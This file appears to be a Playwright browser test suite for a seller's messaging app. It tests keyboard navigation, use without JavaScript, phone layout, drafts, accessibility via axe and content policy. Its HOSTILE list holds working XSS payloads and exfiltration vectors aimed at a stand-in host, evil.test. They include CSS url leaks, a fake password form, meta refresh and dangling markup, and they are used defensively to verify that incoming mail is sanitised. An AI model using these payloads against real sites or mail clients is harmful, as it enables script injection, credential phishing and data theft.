"""A seller's day in a real browser: by keys alone, without scripts, on a phone; judged by axe; nothing runs that is not ours."""

import gzip
import re
from dataclasses import replace
from importlib.resources import files

import pytest
from playwright.sync_api import Page, expect

from postern.model.envelope import Mail
from tests.browser.conftest import Desk

PHONE = {"width": 360, "height": 740}
WIDE = {"width": 1280, "height": 800}


def subjects(page: Page) -> list[str]:
    return page.locator(".rows .subject").all_inner_texts()


def one_thread(page: Page, subject: str) -> None:
    page.get_by_role("link", name=re.compile(subject)).first.click()
    page.wait_for_url("**/threads/**")


def test_a_sellers_day_by_keys_alone(desk: Desk) -> None:
    """R17, R18, R29"""
    page = desk.open(viewport=WIDE)
    assert subjects(page) == ["Index volume", "Order 303-5512345-1234567: torn", "Thanks"]
    page.keyboard.press("j")
    page.keyboard.press("j")
    page.keyboard.press("j")
    page.keyboard.press("e")  # the thanks needs no response
    expect(page.get_by_text("1 message needs no response.")).to_be_visible()
    expect(page.locator(".rows li")).to_have_count(2)
    page.keyboard.press("z")
    page.wait_for_url("**/messages/response-needed")
    assert len(subjects(page)) == 3
    page.keyboard.press("j")
    page.keyboard.press("o")
    page.wait_for_url("**/threads/**")
    page.keyboard.press("r")
    page.keyboard.type("Yes, there is: volume two. e j x")  # letters in the box are letters
    page.keyboard.press("Control+Enter")
    page.wait_for_url("**?sent=answer")
    expect(page.get_by_text("Your answer is on its way.")).to_be_visible()
    expect(page.locator("textarea")).to_have_value("")
    page.keyboard.press("g")
    page.keyboard.press("s")
    page.wait_for_url("**/messages/sent")
    assert "On its way" in page.locator(".rows").inner_text()
    [arrival] = desk.town.deliver()
    assert (arrival.recipient, b"volume two" in arrival.content) == ("ann@mail.test", True)
    page.keyboard.press("g")
    page.keyboard.press("r")
    page.wait_for_url("**/messages")
    assert subjects(page) == ["Order 303-5512345-1234567: torn", "Thanks"]
    assert desk.complaints == desk.foreign == []


def test_keys_can_be_switched_off(desk: Desk) -> None:
    page = desk.open(viewport=WIDE)
    page.keyboard.press("?")
    page.get_by_label("Single keys do this").uncheck()
    page.get_by_role("button", name="Close").click()
    page.keyboard.press("g")
    page.keyboard.press("s")
    page.keyboard.press("j")
    assert page.url.endswith("/messages")
    assert page.evaluate("document.activeElement.className") != "to"


def test_the_same_day_without_scripts(desk: Desk) -> None:
    """R17, R18, R27"""
    page = desk.open(viewport=WIDE, java_script_enabled=False)
    page.get_by_label("Choose the conversation").nth(2).check()
    page.get_by_role("button", name="No response needed").click()
    expect(page.locator(".rows li")).to_have_count(2)
    page.get_by_role("button", name="Undo").click()
    expect(page.locator(".rows li")).to_have_count(3)
    one_thread(page, "Index volume")
    page.get_by_label("Answer Ann Example").fill("Begun")
    page.get_by_role("button", name="Keep as draft").click()
    page.wait_for_url("**#reply")
    page.get_by_role("link", name=re.compile("^Drafts")).click()
    page.wait_for_url("**/drafts")
    one_thread(page, "Index volume")
    expect(page.get_by_label("Answer Ann Example")).to_have_value("Begun")
    page.get_by_label("Answer Ann Example").fill("There is.")
    page.get_by_role("button", name="Send").click()
    expect(page.get_by_text("Your answer is on its way.")).to_be_visible()
    page.get_by_role("link", name=re.compile("^Response needed")).click()
    page.wait_for_url("**/messages")
    one_thread(page, "Thanks")
    page.get_by_role("link", name="Report message").click()
    page.get_by_label("Spam or advertising").check()
    page.get_by_role("button", name="Send report").click()
    expect(page.get_by_text("Your report was sent.")).to_be_visible()
    page.get_by_role("link", name=re.compile("^Response needed")).click()
    expect(page.locator(".rows .subject")).to_have_text(["Order 303-5512345-1234567: torn"])


def test_on_a_phone_nothing_is_cut_off_and_everything_can_be_touched(desk: Desk) -> None:
    page = desk.open(viewport=PHONE, has_touch=True)
    for path in ("/s/1/messages", "/s/1/messages/all", "/s/1/figures", "/sessions"):
        page.goto(desk.origin + path)
        assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"], path
    page.goto(f"{desk.origin}/s/1/messages")
    one_thread(page, "torn")
    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
    page.get_by_label("Answer Ann Example").fill("We send you another.")
    page.get_by_role("button", name="Send").tap()
    expect(page.get_by_text("Your answer is on its way.")).to_be_visible()


def test_a_draft_survives_a_closed_tab(desk: Desk) -> None:
    page = desk.open(viewport=WIDE)
    one_thread(page, "Index volume")
    page.get_by_label("Answer Ann Example").press_sequentially("Begun in a hurry")
    expect(page.locator("#draft-state")).to_have_text("Draft saved")
    address, context = page.url, page.context
    page.close()
    again = desk.watch(context)
    again.goto(address)
    assert again.get_by_label("Answer Ann Example").input_value() == "Begun in a hurry"


def test_what_a_rule_refuses_stays_in_the_box_with_the_reason(desk: Desk) -> None:
    page = desk.open(viewport=WIDE)
    one_thread(page, "Index volume")
    page.get_by_role("button", name="Send").click()
    expect(page.locator("#refused")).to_be_focused()
    expect(page.locator("#refused")).to_contain_text("Not sent yet")
    assert len(page.locator("#refused li").all()) >= 1


def test_a_form_that_is_sent_twice_writes_once(desk: Desk) -> None:
    page = desk.open(viewport=WIDE)
    one_thread(page, "Index volume")
    page.get_by_label("Answer Ann Example").fill("Once.")
    sent = page.evaluate(
        """async () => {
            const form = document.querySelector("form.reply");
            const body = () => new URLSearchParams(new FormData(form));
            const answers = await Promise.all([1, 2, 3].map(() => fetch(form.action, { method: "POST", body: body() })));
            return answers.map((answer) => answer.status);
        }"""
    )
    assert sent == [200] * 3
    assert len(desk.town.deliver()) == 1


# ---- Everybody can use it


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("size", [WIDE, PHONE], ids=["wide", "phone"])
def test_axe_finds_nothing_on_any_page(desk: Desk, axe: str, scheme: str, size: dict[str, int]) -> None:
    page = desk.open(viewport=size, color_scheme=scheme)
    one_thread(page, "torn")
    thread = page.url
    report = page.get_by_role("link", name="Report message").last.get_attribute("href")
    paths = ("/s/1/messages", "/s/1/messages/all", "/s/1/messages/reported", "/s/1/figures", "/sessions", "/", report)
    found = {}
    for url in (thread, f"{thread}?sent=report", *(f"{desk.origin}{path}" for path in paths)):
        page.goto(url)
        found[url] = judge(page, axe)
    fresh = desk.watch(desk.browser.new_context(color_scheme=scheme, viewport=size))  # type: ignore[arg-type]
    for path in ("/", "/sign-in", "/sign-in/link/used"):
        fresh.goto(f"{desk.origin}{path}")
        found[path] = judge(fresh, axe)
    fresh.goto(f"{desk.origin}/sign-in")
    fresh.get_by_label("Your e-mail address").fill("nobody@acme.test")
    fresh.get_by_role("button").click()
    found["code"] = judge(fresh, axe)
    assert not {url: told for url, told in found.items() if told}


def judge(page: Page, axe: str) -> list[str]:
    """What axe finds. It runs beside the page's policy, as a browser's own tools do."""
    session = page.context.new_cdp_session(page)
    session.send("Runtime.evaluate", {"expression": axe})
    run = (
        "axe.run(document).then((found) => JSON.stringify(found.violations.map((one) => [one.id, one.nodes.map((n) => n.html)])))"
    )
    answer = session.send("Runtime.evaluate", {"expression": run, "awaitPromise": True, "returnByValue": True})
    told = answer["result"]["value"]
    return [] if told == "[]" else [told]


def test_no_page_breaks_its_own_policy(desk: Desk) -> None:
    """W-16"""
    page = desk.open(viewport=WIDE)
    one_thread(page, "torn")
    for path in ("/s/1/messages", "/s/1/messages/all", "/s/1/messages/sent", "/s/1/figures", "/sessions"):
        page.goto(desk.origin + path)
    assert desk.complaints == desk.foreign == []


EVIL = "http://evil.test"
HOSTILE = (
    "<script>alert('script')</script><img src=x onerror=alert('image')>",
    "<svg onload=alert('svg')><animate onbegin=alert(1) attributeName=x><svg><a href='javascript:alert(5)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    f"<style>@import '{EVIL}/a.css'; body{{background:url({EVIL}/b)}} input[value^=a]{{background:url({EVIL}/c)}}</style>",
    f"<div style='position:fixed;inset:0;z-index:9999;background:url({EVIL}/d)'>cover</div><iframe src={EVIL}/e></iframe>",
    f"<form action={EVIL}/f><input name=password><button>Sign in</button></form><base href={EVIL}/>",
    f"<img src='{EVIL}/g.gif'><img srcset='{EVIL}/h 1x'><video poster={EVIL}/i><link rel=preload href={EVIL}/j>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/k'><object data={EVIL}/l></object><embed src={EVIL}/m>",
    f"<img src='{EVIL}/?text=",
    "<noscript><p title='</noscript><img src=x onerror=alert(3)>'>",
    "<a href='javascript:alert(2)' style='position:absolute;inset:0'>x</a>",
)


def hostile(desk: Desk, html: str) -> Mail:
    kind = "text/html; charset=utf-8"
    mail = desk.town.from_ann("x", Subject="<img src=x onerror=alert(4)>", MIME_Version="1.0", Content_Type=kind)
    head = mail.content.partition(b"\r\n\r\n")[0]
    return replace(mail, content=head + b"\r\n\r\n<p>Hello</p>" + html.encode() + b"\r\n")


def test_hostile_layouts_run_nothing_and_fetch_nothing(desk: Desk) -> None:
    """W-01, W-04"""
    for html in HOSTILE:
        desk.receive(hostile(desk, html), hours=0.01)
    page = desk.open(viewport=WIDE)
    page.goto(f"{desk.origin}/s/1/messages/all")
    for address in sorted({link.get_attribute("href") or "" for link in page.locator(".rows .to").all()}):
        page.goto(desk.origin + address)
        for layout in page.locator("details.layout > summary").all():
            layout.click()
        page.wait_for_timeout(150)
        assert page.url == desk.origin + address
        assert all(frame.evaluate("document.forms.length") == 0 for frame in page.frames[1:])
    assert desk.foreign == []
    assert not [one for one in desk.complaints if "dialog" in one]


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_layouts_do_nothing_even_as_a_page_of_their_own(desk: Desk, html: str) -> None:
    """W-04: somebody may open the frame by itself."""
    desk.receive(hostile(desk, html), hours=0.01)
    page = desk.open(viewport=WIDE)
    page.goto(f"{desk.origin}/s/1/messages/all")
    page.locator(".rows .to").first.click()
    page.wait_for_url("**/threads/**")
    frame = page.locator(".layout iframe").first
    source = frame.get_attribute("src") if frame.count() else None
    if source:
        page.goto(desk.origin + source)
        page.wait_for_timeout(100)
        assert page.url == desk.origin + source
    assert desk.foreign == []
    assert not [one for one in desk.complaints if "dialog" in one]


@pytest.mark.parametrize("name, most", [("desk.js", 32_000), ("desk.css", 20_000)])
def test_what_a_page_weighs(name: str, most: int) -> None:
    assert len(gzip.compress((files("postern.web") / "static" / name).read_bytes())) < most
